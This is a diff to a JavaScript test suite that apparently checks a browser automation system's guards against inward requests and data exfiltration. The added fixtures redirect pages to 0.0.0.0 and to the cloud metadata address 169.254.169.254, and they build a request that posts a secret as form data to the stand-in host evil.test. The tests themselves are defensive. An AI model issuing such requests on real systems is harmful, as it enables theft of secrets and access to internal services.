@@ -248,6 +248,8 @@ describe('this machine', () => {
       ),
     ],
     ['a script', page('x', '<script>location.href = "http://localhost:9/stop"</script>')],
+    ['a name for it', page('x', '<script>location.href = "https://0.0.0.0:9/stop"</script>')],
+    ['its metadata', page('x', '<script>location.href = "https://169.254.169.254/latest"</script>')],
     ['an assertion', responsePage(samlResponse('https://[::1]:9/acs'), 'https://[::1]:9/acs')],
   ]
   for (const [name, html] of inward) {
@@ -357,6 +359,11 @@ describe('the last gate, for steps that a recipe makes up by itself', () => {
     [
       'JSON to a stranger',
       secret => ({ url: 'https://evil.test/', body: JSON.stringify({ a: [secret] }) }),
+      'foreign-host',
+    ],
+    [
+      'the parts of a form to a stranger',
+      secret => ({ url: 'https://evil.test/', body: new TextEncoder().encode(`--x\r\n\r\n${secret}\r\n--x--`) }),
       'foreign-host',
     ],
     [
